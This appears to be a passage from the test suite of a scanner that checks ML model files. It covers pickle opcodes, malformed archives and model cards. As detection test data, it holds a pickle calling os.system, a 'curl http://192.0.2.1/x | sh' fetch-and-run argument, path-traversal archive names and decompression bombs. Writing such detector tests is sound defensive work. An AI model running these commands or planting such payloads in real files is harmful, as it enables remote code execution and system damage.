    entry = Allow(name, "reviewed with the change that added it", "ml-team", datetime.date.fromisoformat(until))
    return replace(Config(), allow=(entry,))


def states(listing: str, config: Config, root: Path) -> set[tuple[str, str]]:
    (root / "model.pkl").write_bytes(assemble(listing))
    report, _ = judge(scan(root, ["model"]), config, datetime.date(2026, 11, 23))
    return {(finding.rule, finding.state) for finding in report.findings if finding.scanner == "model"}


@pytest.mark.parametrize("name", ["example.nets.Net", "example.nets.*", "example.nets.N*t"])
def test_an_allowed_name_is_set_aside_with_its_reason(name: str, tmp_path: Path) -> None:
    assert states(OWN, allowing(name), tmp_path) == {(UNKNOWN, "ignored")}


@pytest.mark.parametrize(
    "config", [allowing("example.nets.Other"), allowing("example.*"), allowing("example.nets.Net", "2026-11-22")]
)
def test_a_name_that_no_entry_in_force_allows_stays(config: Config, tmp_path: Path) -> None:
    assert states(OWN, config, tmp_path) == {(UNKNOWN, "new")}


def test_a_loader_is_allowed_by_its_whole_name_only(tmp_path: Path) -> None:
    whole, pattern = allowing("example.nets.load_net"), allowing("example.nets.*")

    assert (DANGEROUS, "ignored") in states(LOADER, whole, tmp_path)
    assert (DANGEROUS, "new") in states(LOADER, pattern, tmp_path)


def test_an_allowed_name_does_not_cover_what_its_arguments_show(tmp_path: Path) -> None:
    shell = LOADER.replace("'a'", "'curl http://192.0.2.1/x | sh'").replace("load_net", "Net").replace("Net", "start")

    assert (DANGEROUS, "new") in states(shell, allowing("example.nets.start"), tmp_path)


def test_the_standard_library_cannot_be_allowed(tmp_path: Path) -> None:
    assert (DANGEROUS, "new") in states(f"PROTO 4\n{SYSTEM}STOP", allowing("os.system"), tmp_path)


# -- archives and headers that do not fit


@pytest.mark.parametrize(
    ("check", "name", "content"),
    [
        ("traversal", "a.pt", builders.archive({"../data.pkl": CLEAN})),
        ("traversal", "a.pt", builders.archive({"/etc/data.pkl": CLEAN})),
        ("traversal", "a.pt", builders.archive({"..\\data.pkl": CLEAN})),
        ("traversal", "a.tar", builders.tar({"../data.pkl": CLEAN})),
        ("duplicate-member", "a.pt", builders.archive([("a/data.pkl", CLEAN), ("a/data.pkl", CLEAN)])),
        ("name-mismatch", "a.pt", with_other_local_name(builders.torch_zip(CLEAN))),
        ("hidden-member", "a.pt", unlisted(builders.torch_zip(CLEAN))),
        ("no-directory", "a.pt", without_directory(builders.torch_zip(CLEAN))),
        ("prefix", "a.pt", b"junk" * 30 + builders.torch_zip(CLEAN)),
        ("flags", "a.pt", with_flag(builders.torch_zip(CLEAN), 1)),
        ("checksum", "a.pt", with_wrong_checksum(builders.torch_zip(CLEAN))),
        ("polyglot", "a.pt", CLEAN + builders.torch_zip(CLEAN)),
        ("trailing-data", "a.npy", builders.npy(bytes(20), "<f4", (2,))),
        ("memo-bomb", "a.pkl", assemble("PROTO 2\nNONE\nLONG_BINPUT 2147483648\nSTOP")),
        ("header-size", "a.safetensors", b"\xff\xff\xff\x7f\0\0\0\0{\"" + bytes(50)),
    ],
)  # fmt: skip
def test_a_malformed_archive_is_told(check: str, name: str, content: bytes, tmp_path: Path) -> None:
    assert check in checks_of(content, tmp_path, name)


def test_an_honest_archive_is_not_malformed(tmp_path: Path) -> None:
    for packed in (False, True):
        content = builders.archive({"a/data.pkl": CLEAN, "a/data/0": bytes(64), "a/version": b"3"}, packed)
        assert checks_of(content, tmp_path, "a.pt") == set()


def test_archives_without_model_files_are_gaps_and_no_alarm(tmp_path: Path) -> None:
    office = builders.archive(
        {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<y/>", "word/document.xml ": b"z"}
    )

    for name, content in {"a.docx": office, "b.jar": office, "c.zip": office, "d.tar": builders.tar({"a.txt": b"x"}),
                          "e.gz": gzip.compress(b"text"), "f.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40)}.items():  # fmt: skip
        found = records_of(content, tmp_path, name)
        theirs = {"a.docx", "b.jar", "c.zip", "d.tar"}  # documents and texts, which the scanner of datasets reads
        kinds = [] if name in theirs else ["unreadable" if name == "f.7z" else "skipped"]
        assert [r.kind for r in found if isinstance(r, Gap)] == kinds, name
        assert not [r for r in found if isinstance(r, Detection)], name


@pytest.mark.parametrize(
    ("name", "content", "word"),
    [
        ("m.gguf", b"GGUF" + bytes(50), "GGUF"),
        ("m.onnx", b"\x08\x07\x12\x07pytorch" + bytes(50), "binary"),
        ("m.dat", bytes(range(256)), "binary"),
    ],
)
def test_a_format_that_is_not_read_is_a_gap_with_its_name(name: str, content: bytes, word: str, tmp_path: Path) -> None:
    gaps = gaps_of(content, tmp_path, name)

    assert [gap.kind for gap in gaps] == ["skipped"]
    assert word in gaps[0].reason


# -- bounds


def test_a_bomb_is_told_within_memory_and_time(tmp_path: Path) -> None:
    stream = zlib.compressobj(9, zlib.DEFLATED, 31)
    (tmp_path / "bomb.gz").write_bytes(b"".join(stream.compress(bytes(2**20)) for _ in range(600)) + stream.flush())
    (tmp_path / "twice.gz").write_bytes(gzip.compress((tmp_path / "bomb.gz").read_bytes()))
    code = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (700 * 2**20,) * 2)\n"
        "from pathlib import Path; from tests.scanning import scan\n"
        "r = scan(Path(sys.argv[1]), ['model']); print(len([f for f in r.findings if f.check == 'bomb']))"
    )

    started = time.process_time()
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=False, timeout=60
    )

    assert done.stdout.strip() == "2", done.stderr
    assert time.process_time() - started < 20


def test_expansion_and_nesting_cost_no_more_than_their_bytes(tmp_path: Path) -> None:
    doubling = b"\x80\x04" + b"]" + b"2\x86" * 200_000 + b"."
    nested = b"\x80\x04" + b"]" * 200_000 + b"a" * 199_999 + b"."
    tuples = b"\x80\x04N" + b"\x85" * 300_000 + b"R."

    for content in (doubling, nested, tuples):
        started = time.process_time()
        records_of(content, tmp_path)
        assert time.process_time() - started < 5


def test_many_members_take_linear_time(tmp_path: Path) -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        for number in range(70_000):
            file.writestr(zipfile.ZipInfo(f"a/data/{number}"), b"x")
        file.writestr("a/data.pkl", HOSTILE)

    started = time.process_time()
    found = rules_of(target.getvalue(), tmp_path, "a.pt")

    assert DANGEROUS in found
    assert time.process_time() - started < 20


def test_many_members_without_a_directory_take_linear_time(tmp_path: Path) -> None:
    header = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 8, 8, 0, 0, 0, 0, 0, 1, 0) + b"a"

    started = time.process_time()
    records_of(header * 70_000, tmp_path, "a.pt")

    assert time.process_time() - started < 20


def test_a_large_archive_costs_its_pickle_and_directory_only(tmp_path: Path) -> None:
    path = tmp_path / "large.pt"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("a/data.pkl", CLEAN)
        with file.open(zipfile.ZipInfo("a/data/0"), "w", force_zip64=True) as member:
            member.write(bytes(2**20))
    started = time.process_time()
    scanner = ModelScanner()
    from mlguard import discovery

    (group,) = scanner.plan(discovery.classify(tmp_path, ["large.pt"]).artifacts, {})
    found = list(examine(scanner, group, Context(tmp_path)))

    assert [record.verdict for record in found if isinstance(record, ModelFile)] == ["clean"]
    assert time.process_time() - started < 2


@pytest.mark.parametrize("opcode", [b"g", b"p", b"V", b"P", b"S", b"I", b"L", b"F", b"c", b"i", b"cos\n"])
def test_a_text_opcode_cut_at_the_end_stops(opcode: bytes, tmp_path: Path) -> None:
    assert [gap.kind for gap in gaps_of(b"\x80\x02(" + opcode + b"abc", tmp_path)] == ["unreadable"]


def test_a_walk_that_breaks_off_is_a_gap_and_no_proof(tmp_path: Path) -> None:
    found = records_of(CLEAN[:-3], tmp_path)

    assert [record.kind for record in found if isinstance(record, Gap)] == ["unreadable"]
    assert not [record for record in found if isinstance(record, Proof)]


def test_a_flood_of_names_is_cut_with_a_gap(tmp_path: Path) -> None:
    listing = "PROTO 2\n" + "".join(f"GLOBAL os x{number}\nPOP\n" for number in range(3000)) + "NONE\nSTOP"

    found = records_of(assemble(listing), tmp_path)

    assert 900 < len([record for record in found if isinstance(record, Detection)]) < 1100
    assert [record.kind for record in found if isinstance(record, Gap)] == ["too-large"]


def test_arguments_never_reach_a_record(tmp_path: Path) -> None:
    canary = "canary" + "Zq7" * 9
    listing = f"PROTO 4\nGLOBAL example.tools start\nSHORT_BINUNICODE 'curl http://{canary}'\nTUPLE1\nREDUCE\nGLOBAL {canary}! x\nSTOP"

    found = records_of(assemble(listing), tmp_path)

    assert DANGEROUS in {record.rule for record in found if isinstance(record, Detection)}
    assert canary not in repr(found)


@given(st.binary(max_size=400))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_end_in_records(tmp_path: Path, content: bytes) -> None:
    for head in (
        b"",
        b"\x80\x04",
        b"PK\x03\x04",
        b"\x93NUMPY\x01\x00",
        b"\x1f\x8b\x08",
        b"\x78\x9c",
        b"]\x00\x00\x80\x00",
    ):
        found = records_of(head + content, tmp_path)
        assert not [record for record in found if isinstance(record, Gap) and record.kind == "crash"]


OPCODES = b"".join(
    bytes([code])
    for code in b"(.012FINJKLMRSTUVXabcdeghijlopqrstu]})\x80\x81\x82\x85\x86\x87\x88\x8a\x8c\x8d\x8f\x90\x91\x92\x93\x94\x95\x97CGQP"
)


@given(st.lists(st.sampled_from([*(bytes([c]) for c in OPCODES), b"K\x01", b"\x8c\x02os", b"\x8c\x06system", b"cos\nsystem\n",
                                 b"cbuiltins\ngetattr\n", b"C\x02ab", b"q\x00", b"h\x00"]), max_size=60))  # fmt: skip
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_opcodes_end_in_records(tmp_path: Path, parts: list[bytes]) -> None:
    found = records_of(b"\x80\x04" + b"".join(parts), tmp_path)

    assert not [record for record in found if isinstance(record, Gap) and record.kind == "crash"]


@given(st.data())
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_change_to_an_archive_ends_in_records(tmp_path: Path, data: st.DataObject) -> None:
    content = bytearray(
        data.draw(
            st.sampled_from([TORCH, builders.torch_zip(CLEAN), builders.tar({"a.pkl": HOSTILE}), CONTAINERS["npz"][1]])
        )
    )
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))

    found = records_of(bytes(content), tmp_path, "a.pt")

    assert not [record for record in found if isinstance(record, Gap) and record.kind == "crash"]


# -- cards


def test_a_model_without_a_card_is_told_and_one_with_a_card_is_proven(tmp_path: Path) -> None:
    for folder in ("with", "without"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "model.pkl").write_bytes(CLEAN)
    (tmp_path / "with" / "MODEL_CARD.md").write_text("# Card\n")
    (tmp_path / "array.npy").write_bytes(saved(np.save, np.arange(3)))

    report = scan(tmp_path, ["model"])

    missing = [finding.location.path for finding in report.findings if finding.rule == "model/missing-model-card"]
    assert missing == ["without/model.pkl"]
    assert Proof("model/missing-model-card", "with/model.pkl", "with/model.pkl") in report.proofs
